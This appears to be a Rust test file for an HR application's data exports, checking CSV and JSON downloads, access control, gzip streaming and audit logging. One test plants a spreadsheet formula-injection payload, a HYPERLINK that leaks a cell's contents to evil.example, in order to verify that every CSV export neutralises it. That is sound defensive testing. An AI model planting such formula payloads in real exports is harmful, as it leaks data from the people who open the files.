//! Exports of people, skills, applications and moves as CSV and JSON, for HR and read tokens.

use reqwest::Method;
use serde_json::Value;

use crate::support::TestApp;
use crate::tokens::{bearer, token};

async fn count(app: &TestApp, table: &str) -> usize {
    let n: i64 = sqlx::query_scalar(&format!("select count(*) from {table}"))
        .fetch_one(&app.db)
        .await
        .unwrap();
    n as usize
}

#[tokio::test]
async fn hr_downloads_every_export_as_csv_with_one_line_per_row() {
    let app = TestApp::with_demo().await;
    let hr = app.signed_in("hr@example.com").await;
    for (kind, table, first_column) in [
        ("people", "people", "id"),
        ("skills", "person_skills", "person_id"),
        ("applications", "applications", "id"),
        ("moves", "moves", "id"),
    ] {
        let r = hr.get(&format!("/api/v1/exports/{kind}.csv")).await;
        assert_eq!(r.status(), 200, "{kind}");
        assert!(r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv"));
        assert!(r.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains(&format!("trellis-{kind}.csv")));
        let body = r.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        assert_eq!(&reader.headers().unwrap()[0], first_column);
        assert_eq!(reader.records().count(), count(&app, table).await, "{kind}");
    }
    let audited: i64 = sqlx::query_scalar("select count(*) from audit_log where action = 'export'")
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!(audited, 4);
}

#[tokio::test]
async fn a_read_token_gets_the_json_export_and_an_employee_gets_nothing() {
    let app = TestApp::with_demo().await;
    let (_, secret) = token(&app, &["read"]).await;

    let r = bearer(
        &app,
        Method::GET,
        "/api/v1/exports/applications.json",
        &secret,
    )
    .send()
    .await
    .unwrap();
    assert_eq!(r.status(), 200);
    let rows: Vec<Value> = r.json().await.unwrap();
    assert_eq!(rows.len(), count(&app, "applications").await);
    assert!(rows[0]["applicant_email"].as_str().unwrap().contains('@'));

    let people: Vec<Value> = bearer(&app, Method::GET, "/api/v1/exports/people.json", &secret)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let hr_row = people
        .iter()
        .find(|p| p["email"] == "hr@example.com")
        .unwrap();
    assert_eq!(hr_row["employment_status"], "active");

    let employee = app.signed_in("employee@example.com").await;
    assert_eq!(
        employee
            .get_json("/api/v1/exports/people.csv")
            .await
            .status(),
        403
    );
    let hr = app.signed_in("hr@example.com").await;
    assert_eq!(
        hr.get_json("/api/v1/exports/salaries.csv").await.status(),
        404
    );
    assert_eq!(
        hr.get_json("/api/v1/exports/people.xml").await.status(),
        404
    );
}

#[tokio::test]
async fn a_large_export_streams_every_row() {
    let app = TestApp::with_demo().await;
    sqlx::query(
        "insert into moves (person_id, kind, source, effective_on)
         select (select id from people order by employee_number limit 1), 'lateral_move', 'import', current_date - (g % 3000)
         from generate_series(1, 20000) g")
        .execute(&app.db).await.unwrap();
    let hr = app.signed_in("hr@example.com").await;

    let body = hr
        .get("/api/v1/exports/moves.csv")
        .await
        .text()
        .await
        .unwrap();

    assert_eq!(body.lines().count(), count(&app, "moves").await + 1);
}

/// GET `path` as a client that accepts gzip; the decoded body (the whole of it, or a panic
/// naming where the stream was cut).
async fn get_gzip(app: &TestApp, secret: &str, path: &str) -> (String, String) {
    let r = bearer(app, Method::GET, path, secret)
        .header("accept-encoding", "gzip")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{path}");
    let encoding = r
        .headers()
        .get("content-encoding")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    let bytes = r
        .bytes()
        .await
        .unwrap_or_else(|e| panic!("{path}: the body was cut short: {e}"));
    let text = if encoding == "gzip" {
        let mut out = String::new();
        std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&bytes[..]), &mut out)
            .unwrap_or_else(|e| panic!("{path}: the gzip stream is incomplete: {e}"));
        out
    } else {
        String::from_utf8(bytes.to_vec()).unwrap()
    };
    (encoding, text)
}

#[tokio::test]
async fn every_export_arrives_whole_to_a_client_that_accepts_gzip() {
    let app = TestApp::with_demo().await;
    // More than one chunk of rows in one of them.
    sqlx::query(
        "insert into moves (person_id, kind, source, effective_on)
         select (select id from people order by employee_number limit 1), 'lateral_move', 'import', current_date - (g % 3000)
         from generate_series(1, 2000) g")
        .execute(&app.db).await.unwrap();
    let (_, secret) = token(&app, &["read"]).await;
    for (kind, table) in [
        ("people", "people"),
        ("skills", "person_skills"),
        ("applications", "applications"),
        ("moves", "moves"),
    ] {
        let rows = count(&app, table).await;
        let (encoding, csv) = get_gzip(&app, &secret, &format!("/api/v1/exports/{kind}.csv")).await;
        assert_eq!(encoding, "gzip", "{kind}.csv is compressed");
        let plain = bearer(
            &app,
            Method::GET,
            &format!("/api/v1/exports/{kind}.csv"),
            &secret,
        )
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
        assert_eq!(csv, plain, "{kind}.csv: the same bytes either way");
        assert_eq!(
            csv::Reader::from_reader(csv.as_bytes()).records().count(),
            rows,
            "{kind}.csv"
        );
        let (_, json) = get_gzip(&app, &secret, &format!("/api/v1/exports/{kind}.json")).await;
        let parsed: Vec<Value> = serde_json::from_str(&json).unwrap();
        assert_eq!(parsed.len(), rows, "{kind}.json");
    }
}

#[tokio::test]
async fn a_value_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_csv_export() {
    let app = TestApp::with_demo().await;
    let hostile = r#"=HYPERLINK("https://evil.example/?"&A2,"Click")"#;
    for sql in [
        "update people set given_name = $1
         where id = (select id from people order by employee_number limit 1)",
        "update skills set name = '@' || $1
         where id = (select skill_id from person_skills limit 1)",
        "update opportunities set title = '+' || $1
         where id = (select opportunity_id from applications limit 1)",
        "update departments set name = '-' || $1
         where id = (select to_department_id from moves where to_department_id is not null limit 1)",
    ] {
        let changed = sqlx::query(sql)
            .bind(hostile)
            .execute(&app.db)
            .await
            .unwrap()
            .rows_affected();
        assert_eq!(changed, 1, "{sql}");
    }
    let hr = app.signed_in("hr@example.com").await;
    for (kind, prefix) in [
        ("people", "="),
        ("skills", "@"),
        ("applications", "+"),
        ("moves", "-"),
    ] {
        let body = hr
            .get(&format!("/api/v1/exports/{kind}.csv"))
            .await
            .text()
            .await
            .unwrap();
        let cells: Vec<String> = csv::Reader::from_reader(body.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        let stored = if prefix == "=" {
            hostile.to_string()
        } else {
            format!("{prefix}{hostile}")
        };
        let expected = format!("'{stored}");
        assert!(cells.contains(&expected), "{kind}.csv has {expected}");
        for c in &cells {
            let formula = c.starts_with(['=', '+', '@', '\t', '\r'])
                || (c.starts_with('-') && c.parse::<f64>().is_err());
            assert!(!formula, "{kind}.csv: {c:?}");
        }
        // JSON is not opened by a spreadsheet: the value is as stored.
        let json = hr
            .get_json(&format!("/api/v1/exports/{kind}.json"))
            .await
            .text()
            .await
            .unwrap();
        assert!(json.contains("HYPERLINK"), "{kind}.json");
    }

    // The dashboard tables go through the same writer (skill names are live in skill-gaps).
    sqlx::query(
        "update skills set name = '=HYPERLINK(\"https://evil.example\",\"' || name || '\")'",
    )
    .execute(&app.db)
    .await
    .unwrap();
    let body = hr
        .get("/hr/dashboard/skill-gaps.csv")
        .await
        .text()
        .await
        .unwrap();
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(body.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    assert!(!rows.is_empty(), "{body}");
    for row in &rows {
        assert!(row[0].starts_with("'=HYPERLINK("), "{row:?}");
        let gap = &row[4];
        assert!(gap.parse::<i64>().is_ok(), "a gap stays a number: {gap:?}");
    }
}
